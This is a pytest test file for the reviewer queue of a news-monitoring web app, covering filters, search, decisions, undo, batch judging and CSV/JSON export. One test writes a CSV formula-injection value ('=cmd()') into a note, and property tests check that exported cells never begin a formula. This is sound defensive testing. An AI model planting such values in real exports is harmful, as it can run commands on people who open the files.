"""The queue and its cards: contents by role, decisions, undo, and no markup from outside on any page."""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import datetime, timedelta
from hashlib import sha256
from importlib.resources import files
from pathlib import Path

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html
from sqlalchemy import delete, update

from kit.desk import OURS, PASSWORD, Browser, account, client
from kit.home import Clock
from kit.store import (
    CHOLPON,
    DAY,
    HOUR,
    KOS,
    MELIS,
    MINUTE,
    NOW,
    TEXT,
    article,
    backlog,
    entity_numbers,
    filed,
    hit,
    mention,
    stored,
    watch,
)
from kit.store import item as item_of
from monitor.app import App
from monitor.config import Settings
from monitor.model import (
    REASON_OTHER_SCRIPT,
    REASON_ROMANISATION,
    Act,
    Confidence,
    Entity,
    EntityType,
    Field,
    Message,
    Outcome,
    Placement,
    QueueFilter,
    QueueTab,
    Reason,
    Result,
    Role,
    Run,
    Span,
    State,
    Verdict,
    WatchlistChange,
)
from monitor.serialize import item_row
from monitor.store import open_store
from monitor.store import tables as t
from monitor.store.desk.queue_tabs import tab_of
from monitor.web import create_desk, searches
from monitor.web.csv_export import csv_cell
from monitor.web.csv_export import csv_lines as lines_of
from monitor.web.filters import Filters
from monitor.web.item_view import TextPart, _marked_paragraphs, split_at_mentions
from monitor.web.presence import Claims
from monitor.web.routes import queue

SECRET = Entity("secret", "Aizada Hidden", sensitive=True)
RUSSIAN = "Суд продлил арест. Мелис Токоев остаётся под стражей. О чём ещё спросить?"
BOTH = "Melis Tokoev wrote about Cholpon Arzyeva. Nobody else did."
MAYBE = hit("Melis Tokoev", confidence=Confidence.POSSIBLE, alerts=False)


def home(folder: Path, tables: Path) -> App:
    settings = Settings(home=folder, database_url=f"sqlite:///{shutil.copy(tables, folder / 'monitor.db')}")
    return App(settings, open_store(settings.database_url))


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory, sqlite_with_tables: Path) -> Iterator[App]:
    """Return items 1 to 4, the last the newest: possible, then three strong ones; the second has a copy and a follow-up."""
    app = home(tmp_path_factory.mktemp("queue"), sqlite_with_tables)
    watch(app.store)
    filed(app.store, MAYBE, at=NOW - 4 * HOUR, title="Chess: the results", outlet="Sport")
    two = filed(app.store, at=NOW - 3 * HOUR)
    copy = stored(app.store, hit(), at=NOW - 2 * HOUR, outlet="Copycat")
    lead = app.store.reviews.get(two.id).articles[0].id
    app.store.stories.file(copy, Placement(two.story, copy_of=lead), two, NOW - 2 * HOUR, expected_version=1)
    named = (hit("Melis Tokoev", text=BOTH), hit("Cholpon Arzyeva", "cholpon", BOTH))
    filed(app.store, *named, at=NOW - HOUR, text=BOTH, title="A reporter on another", outlet="Herald")
    filed(app.store, hit("Мелис Токоев", text=RUSSIAN), text=RUSSIAN, title="Арест продлён", language="ru")
    app.store.runs.save(Run(started=NOW, ended=NOW))
    yield app
    app.close()


@pytest.fixture
def app(filled: App) -> App:
    """Return the filled desk without any decisions."""
    filled.clock = Clock(NOW)
    with filled.store.database.writing("a test") as connection:
        for table in (t.audit, t.session, t.token, t.invitation, t.decision, t.person):
            connection.execute(delete(table))
        fresh = {"version": 1, "state": "open", "verdict": None, "until": None, "reopened": "", "reopened_at": None}
        connection.execute(update(t.review_item).values(fresh))
    return filled


@pytest.fixture
def aida(app: App) -> Browser:
    return client(create_desk(app), account(app, "Aida", Role.REVIEWER))


@pytest.fixture
def bakyt(app: App) -> Browser:
    return client(create_desk(app), account(app, "Bakyt", Role.REVIEWER))


def say(browser: Browser, item: int, act: str, version: int = 1, query: str = "", **more: object) -> tuple[int, str]:
    answer = browser.post(f"/items/{item}/decide{query}", {"act": act, "version": version, **more})
    return answer.status_code, answer.headers.get("location", "").split("said=")[0].rstrip("?&")


def search(browser: Browser, words: str, query: str = "") -> tuple[str, list[int], str]:
    """Search for these words and return the address of the results, their items, and the summary."""
    answer = browser.post(f"/queue{query}", {"words": words})
    assert answer.status_code == 303
    address = answer.headers["location"]
    return address, listed(browser, address.removeprefix("/queue")), words_of(browser, address)


def words_of(browser: Browser, url: str) -> str:
    """Return the text of a page's main part, in reading order, with single spaces."""
    main = html.fromstring(browser.get(url).text).get_element_by_id("main")
    return " ".join(" ".join(main.itertext()).split())


def listed(browser: Browser, query: str = "") -> list[int]:
    page = html.fromstring(browser.get(f"/queue{query}").text)
    return [int(href.split("/")[2].split("?")[0]) for href in page.xpath("//a[@class='open']/@href")]


# ---- the list -------------------------------------------------------------------------------------------------------


def test_the_queue_is_clear_before_possible_and_newest_first(aida: Browser):
    assert listed(aida) == [4, 3, 2, 1]
    page = aida.get("/queue").text
    assert 'lang="ru" dir="auto">Арест продлён' in page and "1 more article" in page
    assert "<mark>Мелис Токоев</mark>" in page


@pytest.mark.parametrize(
    ("language", "new", "sure"), [("en", "NEW", "clear"), ("ru", "НОВОЕ", "уверенно"), ("ky", "ЖАҢЫ", "анык")]
)
def test_the_digest_is_shown_in_the_visitors_language(app: App, language: str, new: str, sure: str):
    page = client(create_desk(app), account(app, "Vera", Role.READER, language)).get("/digest").text
    assert f"<h2>{new}</h2>" in page and f'{sure}: <span lang="en">' in page
    assert '<span dir="auto" lang="en">«<mark>Melis Tokoev</mark> stays in custody' in page


@pytest.mark.parametrize(
    ("language", "words"),
    [("en", "stands in 14570 more places"), ("ru", "ещё в 14570 местах"), ("ky", "дагы 14570 жерде турат")],
)
def test_a_card_tells_in_how_many_more_places_a_name_stands(tmp_path, sqlite_with_tables, language: str, words: str):
    app = home(tmp_path, sqlite_with_tables)
    watch(app.store)
    filed(app.store, replace(hit(), mentions=(mention("Melis Tokoev", other_places=14_570),)))
    page = client(create_desk(app), account(app, "Vera", Role.READER, language)).get("/items/1").text
    assert words in page
    app.close()


def test_each_tab_of_the_queue_holds_its_items(app: App, aida: Browser):
    say(aida, 4, "relevant")
    say(aida, 3, "unsure")
    say(aida, 2, "later:7")
    assert listed(aida, "?show=decided") == [4]
    assert listed(aida, "?show=asked") == [3]
    assert listed(aida, "?show=later") == [2]
    assert listed(aida, "?show=possible") == [1]
    assert listed(aida) == [3, 1]
    app.clock.now = NOW + 8 * DAY  # type: ignore[attr-defined]
    assert listed(client(create_desk(app), app.store.people.by_name("Aida"))) == [3, 2, 1]


def test_sql_and_python_put_every_item_in_the_same_tab(app: App, aida: Browser):
    for item, act in ((4, "relevant"), (3, "unsure"), (2, "later:1")):
        say(aida, item, act)
    for now in (NOW, NOW + 2 * DAY):
        counts = app.desk.queue.page(QueueFilter(), now, 0).tab_counts
        parts = [tab_of(app.item(n), now) for n in (1, 2, 3, 4)]
        assert {s: n for s, n in counts.items() if n and s is not QueueTab.WAITING} == {
            s: parts.count(s) for s in set(parts)
        }


def test_filters_narrow_and_stand_in_the_address_by_number(app: App, aida: Browser):
    numbers = entity_numbers(app.store)
    assert listed(aida, f"?name={numbers['cholpon']}") == [3]
    assert listed(aida, "?outlet=Copycat") == [2]
    assert listed(aida, "?lang=ru") == [4]
    assert listed(aida, "?sure=possible") == [1]
    assert listed(aida, f"?since={NOW:%Y-%m-%d}&until={NOW:%Y-%m-%d}") == [4, 3, 2, 1]
    assert listed(aida, f"?since={NOW + DAY:%Y-%m-%d}") == []
    assert listed(aida, "?name=²&since=never&sure=x&page=-1&show=zzz") == [4, 3, 2, 1]
    assert listed(aida, "?country=KG") == [4, 3, 2, 1] and listed(aida, "?country=KZ") == []
    page = aida.get(f"/queue?name={numbers['cholpon']}").text
    assert "Kyrgyzstan (1)" in page and "clear (1)" in page and "possible (0)" in page
    assert "Cholpon Arzyeva (1)" in page and "Melis Tokoev (4)" in page  # what the other name would bring


def test_what_was_decided_is_found_by_its_reason(app: App, aida: Browser):
    say(aida, 4, "not-relevant:common-word")
    say(aida, 3, "not-relevant:another-person", entity=entity_numbers(app.store)["cholpon"])
    say(aida, 2, "not-relevant:another-person")
    assert listed(aida, "?show=decided&because=common-word") == [4]
    assert listed(aida, "?show=decided&because=another-person") == [2] and listed(aida, "?because=another-person") == [
        3
    ]
    page = html.fromstring(aida.get("/queue?show=decided&filters=1").text)
    reasons = [" ".join(o.text.split()) for o in page.xpath("//select[@name='because']/option")]
    assert reasons[0] == "all" and set(reasons[1:]) == {"another person (1)", "a common word (1)"}
    app.undo(by="Aida", item=4)
    assert listed(aida, "?because=common-word") == []


def test_words_are_searched_in_any_case_and_stand_in_no_address(aida: Browser):
    for words, found in (
        ("АРЕСТ", [4]),
        ("нЕе", []),
        ("О чем", [4]),
        ("court custody", [2, 1]),
        ("100%", []),
        ("_", []),
    ):
        address, items, _ = search(aida, words)
        assert items == found, words
        hrefs = html.fromstring(aida.get(address).text).xpath("//@href | //@action | //@src")
        assert not any("court" in str(each).casefold() for each in (address, *hrefs))


def test_search_results_are_a_list_like_any_other(app: App, aida: Browser):
    address, items, page = search(aida, "court")
    assert items == [2, 1] and "2 items here hold these words." in page
    assert html.fromstring(aida.get(address).text).get_element_by_id("words").get("value") == "court"
    query = address.removeprefix("/queue")
    card = html.fromstring(aida.get(f"/items/2{query}").text)
    (after,), (back,) = card.xpath("//a[@data-key='j']/@href"), card.xpath("//a[@data-key='q']/@href")
    assert after == f"/items/1{query}" and back.startswith(address) and not card.xpath("//a[@data-key='k']")
    assert say(aida, 2, "relevant", query=query) == (303, f"/items/1{query}")
    assert listed(aida, query) == [1]
    together = aida.post(f"/queue/together{query}", {"every": "1"}).text
    assert "1 story, one decision" in together
    undone = aida.post(f"/items/2/undo{query}", {"decision": app.item(2).history[0].id})
    assert query.removeprefix("?") in undone.headers["location"]


def test_search_results_have_pages(app: App, aida: Browser, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(queue, "PAGE_SIZE", 1)
    address, first, _ = search(aida, "court")
    page = html.fromstring(aida.get(address).text)
    (more,) = page.xpath("//a[@rel='next']/@href")
    assert (first, listed(aida, more.removeprefix("/queue"))) == ([2], [1])
    assert not html.fromstring(aida.get(more).text).xpath("//a[@rel='next']")


def test_words_and_filters_are_combined_and_both_are_shown(app: App, aida: Browser):
    address, items, _ = search(aida, "custody", "?outlet=Copycat")
    assert items == [2] and "outlet=Copycat" in address
    page = html.fromstring(aida.get(address).text)
    chosen = page.xpath("//select[@name='outlet']/option[@selected]/@value")
    assert chosen == ["Copycat"] and page.get_element_by_id("words").get("value") == "custody"
    (number,) = page.xpath("//section[@class='filters']//input[@name='q']/@value")
    assert listed(aida, f"?outlet=Sport&q={number}") == [1]
    opened = html.fromstring(aida.get(f"/queue?q={number}&filters=1").text)
    assert opened.get_element_by_id("words").get("value") == "custody"
    assert opened.xpath("//select[@name='outlet']/option[contains(., 'Copycat (1)')]")


def test_a_list_that_holds_nothing_says_what_was_asked_for(app: App, aida: Browser):
    say(aida, 4, "relevant")
    address, items, page = search(aida, "арест")
    assert items == [] and "Nothing here holds these words" in page
    assert "filters" not in page.split("Nothing here")[1] and "Decided : 1" in page.replace("Decided: 1", "Decided : 1")
    assert listed(aida, f"{address.removeprefix('/queue')}&show=decided") == [4]
    _, _, both = search(aida, "court", "?outlet=Herald")
    assert "Nothing here holds these words and fits these filters" in both
    assert "Show all again" in both and "Clear the filters" in both
    filtered = words_of(aida, "/queue?outlet=Nobody")
    assert "Nothing fits these filters" in filtered and "these words" not in filtered


def test_a_search_of_somebody_else_or_an_expired_one_is_ignored(aida: Browser, bakyt: Browser):
    address, _, _ = search(aida, "court")
    for browser, url in ((bakyt, address), (aida, "/queue?q=0123456789abcdef0123"), (aida, "/queue?q=court")):
        assert "This search is not kept any more. Type the words again." in words_of(browser, url)
        assert listed(browser, url.removeprefix("/queue")) == [4, 3, 2, 1]
        assert "court" not in html.fromstring(browser.get(url).text).get_element_by_id("words").get("value")
    assert search(aida, "  ")[0] == "/queue"


def test_searches_are_kept_by_person_and_the_oldest_go_first(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(searches, "MAX_SEARCHES", 2)
    kept = searches.Searches()
    first, second = kept.save(1, "court"), kept.save(1, "суд")
    assert kept.save(1, "court") == first and kept.save(2, "court") != first
    assert [kept.load(1, n) for n in (first, second)] == ["court", ""]
    assert kept.load(2, first) == "" and "court" not in first
    assert searches.Searches().save(1, "court") != first  # nobody can try words out


def test_a_filter_shows_the_headline_and_the_outlet_that_fit_it(app: App, aida: Browser):
    assert "Copycat +1 1 more article · en" in words_of(aida, "/queue?outlet=Copycat")
    text = "Мелис Токоев кармалды. Башка эч ким жок."
    other = stored(app.store, hit("Мелис Токоев", text=text), at=NOW, text=text, title="Токоев кармалды", language="ky")
    app.store.stories.file(other, Placement(app.item(4).story), app.item(4), NOW, expected_version=app.item(4).version)
    row = words_of(aida, "/queue?lang=ky")
    assert listed(aida, "?lang=ky") == [4]
    assert (
        "Токоев кармалды" in row
        and "Post +1 1 more article · ky" in row
        and "Башка" not in row.split("Токоев кармалды")[0]
    )
    assert "Арест продлён" not in row and "Арест продлён" in words_of(aida, "/queue?lang=ru")


def test_the_first_filter_has_the_focus_when_they_are_opened(aida: Browser):
    for query in ("?filters=1", "?filters=1&outlet=Nobody", "?filters=1&show=later"):
        page = html.fromstring(aida.get(f"/queue{query}").text)
        assert [element.get("name") for element in page.xpath("//*[@data-focus]")] == ["name"], query
    assert html.fromstring(aida.get("/queue?outlet=Post").text).xpath("//a[@data-focus]")


@pytest.mark.parametrize("query", ["?page=99", "?page=2", "?page=99999&show=new", "?page=3&outlet=Copycat"])
def test_a_page_after_the_last_shows_the_last(aida: Browser, query: str):
    there = listed(aida, query)
    assert there and there == listed(aida, re.sub(r"page=\d+", "", query))
    assert "Nothing" not in words_of(aida, f"/queue{query}")


def test_a_row_is_signed_by_who_judged_it_only_while_that_stands(app: App, aida: Browser, bakyt: Browser):
    def signed() -> list[str]:
        page = html.fromstring(aida.get("/queue?show=asked").text + aida.get("/queue?show=new").text)
        return [" ".join(p.text_content().split()) for p in page.xpath("//p[@class='signed']")]

    say(aida, 4, "unsure", note="who?")
    say(bakyt, 4, "unsure", 2)
    assert signed() == ["Bakyt"]
    bakyt.post("/items/4/undo", {"decision": app.item(4).history[1].id})
    assert signed() == ["Aida ✎ with a note"]
    aida.post("/items/4/undo", {"decision": app.item(4).history[0].id})
    assert signed() == []


def test_an_empty_queue_says_whether_that_is_quiet_or_broken(aida: Browser):
    page = aida.get("/queue?show=follow-up").text
    assert "Nothing waits for you here" in page and "quiet, not broken" in page


def test_the_same_list_is_json_and_csv(app: App, aida: Browser):
    say(aida, 4, "not-relevant:another-person", note="=cmd()")
    rows = aida.get("/queue.json?show=decided").json()["items"]
    assert [(r["id"], r["verdict"], r["headline"]) for r in rows] == [(4, "not-relevant", "Арест продлён")]
    answer = aida.get("/queue.csv?show=decided")
    (row,) = csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff")))
    assert (row["item"], row["reason"], row["note"], row["clear"]) == ("4", "another-person", "'=cmd()", "Melis Tokoev")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert [line.act for line in app.store.people.audit(3)] == [Act.EXPORTED, Act.EXPORTED, Act.DECIDED]


@given(st.text(max_size=20), st.sampled_from("=+-@＝＋－＠\t\r"), st.sampled_from(["", " ", '"', "';", " \n"]))
def test_no_cell_begins_a_formula(rest: str, risky: str, before: str):
    assert csv_cell(before + risky + rest).startswith("'")
    assert csv_cell(f"a{risky} b") == f"a{risky} b"


@given(st.lists(st.text(st.sampled_from("a =;,\t\"'\r\n-+@"), max_size=8), min_size=1, max_size=3))
def test_no_cell_begins_a_formula_whether_commas_semicolons_or_tabs_part_them(cells: list[str]):
    written = lines_of([cells])
    for separator in ",;\t":
        read = [one for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator) for one in row]
        assert not [one for one in read if re.match(r"\s*[=+@-]", one)], written


# ---- judging --------------------------------------------------------------------------------------------------------


def test_a_decision_is_signed_and_the_next_item_comes(app: App, aida: Browser):
    assert say(aida, 4, "relevant") == (303, "/items/3")
    (decision,) = app.item(4).history
    assert (decision.by, decision.verdict, app.item(4).state) == ("Aida", Verdict.RELEVANT, State.DECIDED)
    assert say(aida, 1, "not-relevant:common-word", note=" a judo fighter ") == (303, "/queue")  # it was the last
    (decision,) = app.item(1).history
    assert (decision.reason, decision.note) == (Reason.COMMON_WORD, "a judo fighter")


def test_the_next_item_is_the_next_of_the_list_it_was_opened_from(aida: Browser):
    assert say(aida, 2, "relevant", query="?outlet=Copycat&latin=1") == (303, "/queue?outlet=Copycat&latin=1")
    assert say(aida, 4, "unsure", query="?show=new") == (303, "/items/3?show=new")


def focused(browser: Browser, query: str) -> int:
    """Return the item whose row has the focus and the anchor `#place`."""
    page = html.fromstring(browser.get(f"/queue{query}").text)
    (link,) = page.xpath("//a[@data-focus]/@href")
    assert page.xpath("//*[@id='place']//a[@class='open']/@href") in ([link], [])
    return int(link.split("/")[2].split("?")[0])


def test_a_card_leads_back_to_its_row_or_to_the_next_that_is_left(
    app: App, aida: Browser, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("monitor.web.routes.queue.PAGE_SIZE", 2)
    (back,) = html.fromstring(aida.get("/items/2?sure=strong").text).xpath("//nav/a[@data-key='q']/@href")
    assert back == "/queue?sure=strong&at=2#place"
    assert listed(aida, "?at=2") == [2, 1] and focused(aida, "?at=2") == 2
    assert listed(aida, "?at=3&page=2") == [4, 3] and focused(aida, "?at=3") == 3
    say(aida, 3, "relevant")
    assert listed(aida, "?at=3") == [4, 2] and focused(aida, "?at=3") == 2
    say(aida, 1, "relevant")
    assert focused(aida, "?at=1") == 2  # nothing follows it
    for none in ("?at=99", "?at=0", "?at=x", "?at=-1", "?at=", "?at=99999999999", ""):
        assert focused(aida, none) == 4, none


def test_after_a_conflict_the_card_is_where_it_was_in_the_list(aida: Browser, bakyt: Browser):
    say(bakyt, 3, "relevant")
    page = html.fromstring(aida.post("/items/3/decide?show=new", {"act": "not-relevant", "version": 1}).text)
    beside = {key: page.xpath(f"//a[@data-key='{key}']/@href") for key in "jkq"}
    assert beside == {"k": ["/items/4?show=new"], "j": ["/items/2?show=new"], "q": ["/queue?show=new&at=3#place"]}
    assert say(aida, 3, "not-relevant", version=2, query="?show=new") == (303, "/items/2?show=new")


def test_one_name_can_be_judged_alone(app: App, aida: Browser):
    numbers = entity_numbers(app.store)
    assert say(aida, 3, "not-relevant:another-person", entity=numbers["cholpon"]) == (303, "/items/3")
    assert say(aida, 3, "relevant", 2, entity=numbers["melis"]) == (303, "/items/2")  # and now all is said
    assert {h.entity: h.verdict for h in app.item(3).hits} == {
        "melis": Verdict.RELEVANT,
        "cholpon": Verdict.NOT_RELEVANT,
    }
    assert say(aida, 2, "relevant", entity=numbers["kos"])[0] == 404


def test_a_name_rejected_by_itself_stays_rejected_when_the_story_is_relevant(app: App, aida: Browser):
    numbers = entity_numbers(app.store)
    say(aida, 3, "not-relevant:another-person", entity=numbers["cholpon"])
    assert "Names judged by themselves keep their verdict: Cholpon Arzyeva (not relevant)" in words_of(aida, "/items/3")
    say(aida, 3, "relevant", 2)
    item = app.item(3)
    assert {h.entity: h.verdict for h in item.hits} == {"melis": Verdict.RELEVANT, "cholpon": Verdict.NOT_RELEVANT}
    assert (item.verdict, item.state) == (Verdict.RELEVANT, State.DECIDED)
    judgements = app.store.reviews.name_judgements()
    learnt = {judged.entity: (judged.right, judged.reason) for judged in judgements if judged.item == 3}
    assert learnt == {"melis": (True, None), "cholpon": (False, Reason.ANOTHER_PERSON)}
    statistics = words_of(aida, "/statistics")
    assert "Cholpon Arzyeva 0 of 1" in statistics and "Melis Tokoev 1 of 1" in statistics
    aida.post("/items/3/undo", {"decision": item.history[1].id})
    assert {h.entity: h.verdict for h in app.item(3).hits} == {"melis": None, "cholpon": Verdict.NOT_RELEVANT}


def test_a_colleague_reads_who_asks_and_what_first_on_the_card_and_in_the_list(app: App, aida: Browser, bakyt: Browser):
    numbers = entity_numbers(app.store)
    say(aida, 4, "unsure", note="Is <b>this</b> the editor?\nHis lawyer says so.")
    say(aida, 3, "unsure", note="Which Cholpon?", entity=numbers["cholpon"])
    card = words_of(bakyt, "/items/4")
    asked = card.index("Aida asks: Is <b>this</b> the editor? His lawyer says so.")
    assert card.index("Арест продлён") < asked < card.index("stored text")
    assert "Aida asks about Cholpon Arzyeva : Which Cholpon?" in words_of(bakyt, "/items/3")
    assert listed(bakyt, "?show=asked") == [4, 3]
    rows = words_of(bakyt, "/queue?show=asked")
    assert "Aida asks: Is <b>this</b> the editor?" in rows and "Cholpon Arzyeva : Which Cholpon?" in rows
    say(bakyt, 4, "relevant", 2, note="It is.")
    say(bakyt, 3, "relevant", 2)
    for url in ("/items/4", "/items/3", "/queue?show=decided"):
        assert "Aida asks" not in words_of(bakyt, url)
    assert listed(bakyt, "?show=asked") == []


def test_a_question_without_a_note_says_who_asks_and_a_long_one_is_cut_in_the_list(aida: Browser, bakyt: Browser):
    say(aida, 4, "unsure")
    assert "Aida asks a colleague." in words_of(bakyt, "/items/4")
    say(aida, 3, "unsure", note="Who? " * 100)
    assert words_of(bakyt, "/items/3").count("Who?") >= 100
    assert 10 < words_of(bakyt, "/queue?show=asked").count("Who?") < 40


def test_a_stale_decision_is_not_stored_and_shows_the_other(app: App, aida: Browser, bakyt: Browser):
    say(aida, 4, "relevant", note="two sources")
    answer = bakyt.post("/items/4/decide", {"act": "not-relevant", "version": 1, "note": "my own words"})
    assert answer.status_code == 409
    assert all(words in answer.text for words in ("Somebody was quicker", "Aida", "two sources"))
    assert 'name="version" value="2"' in answer.text and len(app.item(4).history) == 1
    assert "my own words" in answer.text  # of the note that was not stored


def test_a_form_sent_twice_says_it_once(app: App, aida: Browser):
    assert [say(aida, 4, "relevant")[0] for _ in range(3)] == [303, 303, 303]
    assert len(app.item(4).history) == 1


def test_a_form_sent_again_after_its_answer_was_lost_is_confirmed(app: App, aida: Browser):
    form = {"act": "relevant", "version": 1}
    (first, again) = (aida.post("/items/4/decide", form).headers["location"] for _ in range(2))
    assert first == again == f"/items/3?said={app.item(4).history[0].id}"


def test_a_decision_sent_again_after_its_undo_is_a_conflict(app: App, aida: Browser):
    say(aida, 4, "relevant")
    say_all(aida, "3:1", "relevant")
    for item in (4, 3):
        aida.post(f"/items/{item}/undo", {"decision": app.item(item).history[0].id})
    assert say(aida, 4, "relevant")[0] == 409 and say_all(aida, "3:1", "relevant")[0] == 409
    assert [app.item(n).state for n in (3, 4)] == [State.OPEN] * 2


def test_every_decision_can_be_taken_back_also_an_earlier_one(app: App, aida: Browser, bakyt: Browser):
    say(aida, 4, "relevant")
    say(bakyt, 3, "relevant")
    said = app.item(4).history[0].id
    assert f'name="decision" value="{said}"' in aida.get("/queue").text  # always at hand
    assert f'name="decision" value="{said}"' not in bakyt.get("/queue").text
    for _ in range(2):  # the second time changes nothing
        assert bakyt.post("/items/4/undo", {"decision": said}).status_code == 303
    assert (app.item(4).state, len(app.item(4).history)) == (State.OPEN, 2)
    assert aida.post("/items/3/undo", {"decision": said}).status_code == 404  # it is of another item


def test_a_decision_is_announced_with_the_number_of_items_left(app: App, aida: Browser):
    answer = aida.post("/items/4/decide", {"act": "relevant", "version": 1})
    page = html.fromstring(aida.get(answer.headers["location"]).text)
    assert page.get_element_by_id("page").get("data-said") == "Saved: relevant. 3 left. Undo: Z"
    assert html.fromstring(aida.get("/items/3").text).get_element_by_id("page").get("data-said") == ""


@pytest.mark.parametrize(
    "form", [{}, {"act": "relevant"}, {"act": "x", "version": 1}, {"act": "later:2x", "version": "y"}]
)
def test_a_broken_form_is_refused(app: App, aida: Browser, form: dict[str, object]):
    assert aida.post("/items/4/decide", form).status_code == 400
    assert app.item(4).history == ()


def test_reasons_go_with_not_relevant_alone(aida: Browser):
    assert say(aida, 4, "relevant:common-word")[0] == 400
    assert say(aida, 4, "not-relevant:because")[0] == 400


def test_an_unknown_item_is_a_404(aida: Browser):
    for path in ("/items/99", "/items/0", "/items/4/articles/1", "/digest/2999-01-01"):
        assert aida.get(path).status_code == 404, path
    for path in ("/items/x", "/items/-1", "/items/99999999999999999999", "/items/4/articles/2147483648"):
        assert aida.get(path).status_code == 404, path


def test_an_item_that_was_merged_is_found_where_it_is_now(tmp_path: Path, sqlite_with_tables: Path):
    app = home(tmp_path, sqlite_with_tables)
    app.clock = Clock(NOW)
    watch(app.store)
    one, two = filed(app.store, at=NOW - HOUR), filed(app.store)
    browser = client(create_desk(app), account(app, "Aida", Role.REVIEWER))
    say(browser, two.id, "unsure")
    app.merge(one.id, two.id, by="Bakyt")
    assert listed(browser) == [one.id] and listed(browser, "?show=decided") == []
    assert f"/items/{one.id}/undo" in browser.get(f"/items/{two.id}").text
    assert say(browser, two.id, "relevant", 2)[0] == 409
    assert browser.post(f"/items/{one.id}/undo", {"decision": app.item(one.id).history[0].id}).status_code == 303
    app.close()


# ---- many at once ---------------------------------------------------------------------------------------------------


def choose(browser: Browser, *pairs: str, query: str = "", **more: object) -> tuple[int, html.HtmlElement, str]:
    """Choose items and return the confirmation page, its status, and the `number:version` pairs in its form."""
    answer = browser.post(f"/queue/together{query}", {"pick": list(pairs), **more})
    page = html.fromstring(answer.text)
    return answer.status_code, page, next(iter(page.xpath("//input[@name='seen']/@value")), "").strip()


def say_all(browser: Browser, seen: str, act: str, query: str = "", **more: object) -> tuple[int, str]:
    answer = browser.post(f"/queue/together/decide{query}", {"seen": seen, "act": act, **more})
    return answer.status_code, answer.headers.get("location", "").split("said=")[0].rstrip("?&") or answer.text


def test_what_is_chosen_is_counted_before_it_is_judged_and_judged_in_one_step(app: App, aida: Browser):
    status, page, seen = choose(aida, "4:1", "2:1")
    assert (status, seen) == (200, "4:1 2:1") and page.xpath("//h1")[0].text == "2 stories, one decision"
    assert not any(app.item(n).history for n in (1, 2, 3, 4))  # looking at it changes nothing
    assert say_all(aida, seen, "not-relevant:another-person", note="a namesake") == (303, "/queue")
    first, second = (app.item(n).history[-1] for n in (2, 4))
    assert (first.reason, first.note, first.by) == (Reason.ANOTHER_PERSON, "a namesake", "Aida")
    assert first.batch == second.batch != "" and listed(aida) == [3, 1]
    line = app.store.people.audit(1)[0]
    assert (line.act, line.about, line.detail) == (Act.DECIDED, None, "2 4")


def test_one_undo_takes_all_of_a_step_back(app: App, aida: Browser):
    say_all(aida, "4:1 3:1 2:1", "later:7")
    assert [app.item(n).state for n in (2, 3, 4)] == [State.LATER] * 3
    page = aida.get("/queue").text
    assert "3 stories in one step" in page
    (form,) = html.fromstring(page).xpath("//form[starts-with(@class, 'undo')]")
    said = form.xpath("input[@name='decision']/@value")[0]
    answer = aida.post(form.get("action"), {"decision": said})
    assert answer.headers["location"] == "/queue?said=undone" and listed(aida) == [4, 3, 2, 1]
    assert app.store.people.audit(1)[0].detail == "2 3 4"


def three_stories(tmp_path: Path, tables: Path) -> tuple[App, Browser]:
    app = home(tmp_path, tables)
    app.clock = Clock(NOW)
    watch(app.store)
    for hours in (3, 2, 1):
        filed(app.store, at=NOW - hours * HOUR)
    return app, client(create_desk(app), account(app, "Aida", Role.REVIEWER))


def test_one_undo_takes_a_step_back_though_two_of_its_stories_are_one_by_now(tmp_path: Path, sqlite_with_tables: Path):
    app, browser = three_stories(tmp_path, sqlite_with_tables)
    say_all(browser, "1:1 2:1 3:1", "relevant")
    app.merge(1, 3, by="Bakyt")
    said = app.item(2).history[0]
    assert "Take the whole step back (3 stories)" in browser.get("/items/1").text
    assert browser.post("/items/2/undo", {"decision": said.id}).headers["location"] == "/queue?said=undone"
    assert app.store.reviews.batch(said.batch) == []
    assert [(app.item(n).state, app.item(n).verdict) for n in (1, 2)] == [(State.OPEN, None)] * 2
    assert app.store.people.audit(1)[0].detail == "1 2"
    app.close()


def test_an_undo_that_lost_a_race_says_so(app: App, aida: Browser, monkeypatch: pytest.MonkeyPatch):
    say_all(aida, "4:1 3:1", "relevant")
    said = app.item(4).history[0].id
    save_many = app.store.reviews.save_many
    stale = lambda moves, **how: save_many([(item, was - 1) for item, was in moves], **how)  # noqa: E731
    with monkeypatch.context() as patched:
        patched.setattr(app.store.reviews, "save_many", stale)
        answer = aida.post("/items/4/undo", {"decision": said})
    assert answer.status_code == 409 and "Nothing was taken back" in answer.text
    assert "You wanted to say" not in answer.text and app.item(4).state is State.DECIDED


def test_what_was_merged_since_it_was_chosen_is_shown_as_left_alone(tmp_path: Path, sqlite_with_tables: Path):
    app, browser = three_stories(tmp_path, sqlite_with_tables)
    app.merge(1, 3, by="Bakyt")
    _, page, seen = choose(browser, "3:1", "2:1")
    assert seen == "2:1" and "1 story moved on" in page.text_content()
    assert page.xpath("//section[@class='conflict']//a[@class='open']/@href") == ["/items/1"]
    status, told = say_all(browser, "3:1 2:1", "relevant")
    assert status == 409 and "1 story was left alone" in told and "1 other story is judged" in told
    assert html.fromstring(told).xpath("//a[@class='open']/@href") == ["/items/1"]
    assert [len(app.item(n).history) for n in (1, 2)] == [0, 1]
    # part of another that was chosen as it is now: nothing of it was left alone
    assert say_all(browser, f"3:1 1:{app.item(1).version}", "relevant") == (303, "/queue")
    app.close()


def test_all_of_a_list_means_the_items_that_were_counted(app: App, aida: Browser, bakyt: Browser):
    _, page, seen = choose(aida, every="1", query="?show=new")
    assert seen == "4:1 3:1 2:1"
    assert page.xpath("//form[@class='judge']/@action") == ["/queue/together/decide?show=new"]
    say(bakyt, 3, "relevant")
    app.undo(by="Bakyt")  # as open as it was, and yet it moved on
    status, told = say_all(aida, seen, "not-relevant", query="?show=new")
    assert status == 409 and "1 story was left alone" in told and "2 other stories are judged" in told
    assert html.fromstring(told).xpath("//a[@class='open']/@href") == ["/items/3?show=new"]
    assert "<bdi>Bakyt</bdi></strong>: took a decision back" in told
    assert [len(app.item(n).history) for n in (1, 2, 3, 4)] == [0, 1, 2, 1]

